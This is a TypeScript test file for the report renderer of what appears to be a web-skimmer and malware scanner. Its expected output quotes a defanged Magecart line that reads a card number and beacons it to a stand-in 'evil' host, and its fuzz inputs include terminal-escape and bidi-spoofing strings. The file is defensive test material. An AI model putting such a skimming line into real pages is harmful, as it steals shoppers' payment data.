import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Evidence } from '../../../core/schema/index.ts';
import { widthOf } from '../../../cli/render/fit.ts';
import { renderReport } from '../../../cli/render/report.ts';
import {
  crawlModel,
  entryOf,
  evidenceOf,
  plain80,
  receiptOf,
  score,
  sightingOf,
  skimmerOf,
} from './builders.ts';

const suspicious = entryOf({ verdict: 'suspicious', category: 'malware', scores: score(99, 99, 30) });

describe('the text report', () => {
  it('shows a crawl as table, findings with reasons, totals and receipt', () => {
    const entries = [entryOf({ sightings: [sightingOf()] }), skimmerOf()];
    assert.equal(
      renderReport(crawlModel(entries), { ...plain80, width: 100 }),
      `shop  http://shop.localhost:4100/

#  VERDICT    CATEGORY  ALL  CARD  MIN  MAL  HOST                    SEEN
1  malicious  magecart    1     1   98   97  cdn[.]vendor[.]example  /checkout external, +1 page
   benign                99    99   99   99  shop.localhost:4100     1 script on 1 page

Scores: 1 certainly malicious, 99 certainly not. ALL (integrity in JSON) is the lowest of CARD
(magecart), MIN (cryptomining) and MAL (malware).
Benign rows show the lowest score of their group; --all lists every one.
A reason’s severity is how much it says alone; the verdict weighs the script as a whole.

1. malicious · magecart · score 1
   hxxp://cdn[.]vendor[.]example/lib.js
   Seen on   /checkout, /cart (external)
   Reads     #card-number
   Sends to  stats[.]evil[.]example

   critical  The card number is read and sent to another host.  at line 12, column 340
             │ navigator.sendBeacon("hxxps://stats[.]evil[.]example/c", btoa(card.value))

2 scripts: 1 malicious, 0 suspicious, 1 benign

Receipt: complete, 4.2 s
  pages    5 visited, 0 failed, 0 left out by the page limit
  targets  12 attached, 0 failed
  scripts  61 parsed, 61 read, 0 failed, 3 distinct
  requests 88, 0 failed, 0 blocked
  sandbox  full
`,
    );
  });

  it('puts the worst first and numbers findings as the table does', () => {
    const text = renderReport(crawlModel([suspicious, skimmerOf()]), plain80);
    assert.match(text, /^1 +malicious[\s\S]*^2 +suspicious[\s\S]*^1\. malicious[\s\S]*^2\. suspicious/m);
  });

  it('names several inputs without cutting names in the middle', () => {
    const paths = ['one', 'two', 'six'].map((name) => `dist/assets/${name.repeat(6)}.js`);
    const model = { subject: paths.join(' '), entries: [], complete: true };
    assert.equal(renderReport(model, plain80).split('\n\n')[0], `${paths[0]!} ${paths[1]!}\n${paths[2]!}`);
    const many = { ...model, subject: 'path/to/a.js '.repeat(40) };
    const lines = renderReport(many, plain80).split('\n\n')[0]!.split('\n');
    assert.equal(lines.length, 3);
    assert.ok(lines.every((line) => widthOf(line) <= 80) && lines[2]!.endsWith('…'));
  });

  it('sums benign scripts up by host unless all are asked for', () => {
    const entries = [1, 2, 3].map(() => entryOf({ sightings: [sightingOf()] }));
    assert.match(renderReport(crawlModel(entries), plain80), /benign .* 3 scripts on 1 page/);
    assert.equal(
      renderReport(crawlModel(entries), { ...plain80, all: true }).match(/^ +benign/gm)?.length,
      3,
    );
  });

  it('shows a port only where hosts differ in it', () => {
    const on = (url: string) => entryOf({ sightings: [sightingOf({ url })] });
    const shared = renderReport(crawlModel([on('http://a.test:81/x.js'), on('http://b.test:81/')]), plain80);
    assert.match(shared, /a\.test +1 script[\s\S]*b\.test +1 script/);
    const mixed = renderReport(crawlModel([on('http://a.test:81/x.js'), on('http://b.test/')]), plain80);
    assert.match(mixed, /a\.test:81 +1 script[\s\S]*b\.test +1 script/);
  });

  it('shows a flow step by step', () => {
    const steps = [
      { message: 'read', location: { line: 1, column: 2 } },
      { message: 'sent to stats.evil.example' },
    ];
    const entry = skimmerOf({ evidence: [evidenceOf({ steps })] });
    const text = renderReport(crawlModel([entry]), plain80);
    assert.match(text, /1\. read {2}at line 1, column 2\n +2\. sent to stats\[\.\]evil\[\.\]example\n/);
  });

  it('shows both ends of a long flow', () => {
    const steps = Array.from({ length: 12 }, (_, index) => ({ message: `step ${index + 1}` }));
    const text = renderReport(crawlModel([skimmerOf({ evidence: [evidenceOf({ steps })] })]), plain80);
    assert.match(text, /2\. step 2\n +… 7 steps\n +10\. step 10\n[\s\S]*12\. step 12\n/);
  });

  it('shows the worst reason of each place and counts the rest', () => {
    const evidence = [
      evidenceOf({ severity: 'low', message: 'Mild.' }),
      evidenceOf({ severity: 'critical', message: 'Bad.' }),
      evidenceOf({ severity: 'high', message: 'Elsewhere.', location: { line: 1, column: 1 } }),
    ];
    const text = renderReport(crawlModel([skimmerOf({ evidence })]), plain80);
    assert.match(text, /critical {2}Bad\.[\s\S]*high {6}Elsewhere\.[\s\S]*and 1 more reason.*--explain/);
    assert.doesNotMatch(text, /Mild/);
  });

  it('shows every reason when all is to be explained', () => {
    const evidence = Array.from({ length: 20 }, (_, index) => evidenceOf({ message: `Reason ${index}.` }));
    const entry = skimmerOf({ evidence: [evidenceOf({ severity: 'low', message: 'Mild.' }), ...evidence] });
    const text = renderReport(crawlModel([entry]), { ...plain80, explain: true });
    assert.match(text, /Reason 0\.[\s\S]*Reason 19\.[\s\S]*low {7}Mild\./);
    assert.doesNotMatch(text, /more reason/);
  });

  it('tells how a grave verdict and mild reasons belong together, and what was emulated', () => {
    const text = (...evidence: Evidence[]): string =>
      renderReport(crawlModel([skimmerOf({ evidence })]), { ...plain80, width: 140 });
    const mild = evidenceOf({ severity: 'low' });
    const run = evidenceOf({ message: 'Sent (emulated).', location: { line: 1, column: 1 } });
    assert.match(text(mild), /alone says little; the verdict rests on all/);
    assert.doesNotMatch(text(mild, run), /says little/);
    assert.match(text(run), /\(emulated\): seen as the script ran/);
    assert.doesNotMatch(text(mild), /emulated/);
  });

  it('tells where in its page inline code speaks', () => {
    const sightings = [sightingOf({ kind: 'inline', url: null, line: 57, column: 9 })];
    const at = (line: number, column: number) => evidenceOf({ location: { line, column } });
    const inline = skimmerOf({ sightings, evidence: [at(1, 3), at(2, 3)] });
    const text = renderReport(crawlModel([inline]), plain80);
    assert.match(text, /in the page: line 57, column 11\n/);
    assert.match(text, /in the page: line 58, column 3\n/);
  });

  it('says what a crawl did not see', () => {
    const receipt = receiptOf({
      complete: false,
      shortfalls: [{ code: 'target-lost', message: 'A worker went away.', count: 2, blocking: true }],
    });
    const model = crawlModel([], receipt);
    const text = renderReport({ ...model, crawl: { ...model.crawl!, state: 'incomplete' } }, plain80);
    assert.match(text, /^Receipt: not complete/m);
    assert.match(text, /! 2 × target-lost: A worker went away\./);
  });

  it('says when files were not analysed or only in part', () => {
    const entries = [entryOf({ partial: true, path: 'big.js' })];
    const text = renderReport({ subject: 'big.js', entries, complete: false }, plain80);
    assert.match(text, /benign\* .*big\.js[\s\S]*\* a limit cut[\s\S]*Not complete/);
  });

  it('tells of test data that reached a foreign host', () => {
    const leak = {
      visitId: 'v1',
      field: 'card',
      url: 'https://e.example/',
      encoding: 'base64',
      via: 'image',
    };
    const model = crawlModel([]);
    const canaryLeaks = [
      { ...leak, host: 'e.example', expected: false },
      { ...leak, host: 'pay.example', expected: true },
    ];
    const text = renderReport({ ...model, crawl: { ...model.crawl!, canaryLeaks } }, plain80);
    assert.match(text, /Test data leaked: card → e\[\.\]example via image \(base64\)/);
    assert.doesNotMatch(text, /pay/);
  });

  it('uses colours only when asked', () => {
    assert.match(renderReport(crawlModel([skimmerOf()]), { ...plain80, colour: true }), /\x1b\[31mmalicious/);
    assert.doesNotMatch(renderReport(crawlModel([skimmerOf()]), plain80), /\x1b/);
  });

  const hostile = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.constantFrom(
      '\x1b[2J\x1b]0;x\x07',
      '\u202egnp.exe',
      '漢字かな'.repeat(30),
      'https://a.b/\r\nok',
      '%s$&',
    ),
  );

  it('lets no character from a site reach the terminal raw, and keeps to its width', () => {
    const check = fc.property(hostile, hostile, fc.integer({ min: 60, max: 140 }), (one, other, width) => {
      const url = `http://h.example/${one}`;
      const sightings = [
        sightingOf({ url, pageUrl: other, initiator: { kind: 'script', url: other } }),
        sightingOf({ url: other, pageUrl: url, kind: 'inline', line: 3 }),
      ];
      const evidence = [
        evidenceOf({ message: other, snippet: one, field: one, host: other, steps: [{ message: one }] }),
      ];
      const bad = skimmerOf({ path: one, sightings, evidence });
      const unanalysed = entryOf({
        verdict: 'unanalysed',
        reason: other,
        scores: null,
        sightings,
        path: other,
      });
      const shortfalls = [{ code: 'x', message: one, url: other, count: 1, blocking: false }];
      const model = {
        ...crawlModel([bad, unanalysed, entryOf({ sightings })], receiptOf({ shortfalls })),
        subject: one,
      };
      const text = renderReport(model, { ...plain80, width });
      assert.doesNotMatch(text.replaceAll('\n', ''), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      const long = text.split('\n').filter((line) => widthOf(line) > width);
      assert.deepEqual(long, []);
    });
    fc.assert(check, { numRuns: 60 });
  });

  it('names benign scripts that have a grave reason all the same', () => {
    const entries = [entryOf({ path: 'odd.js', evidence: [evidenceOf({ severity: 'high' })] }), entryOf()];
    const text = renderReport(crawlModel(entries), { ...plain80, width: 100 });
    assert.match(text, /1 benign script with a grave reason, which --format json tells: odd\.js\n/);
  });
});
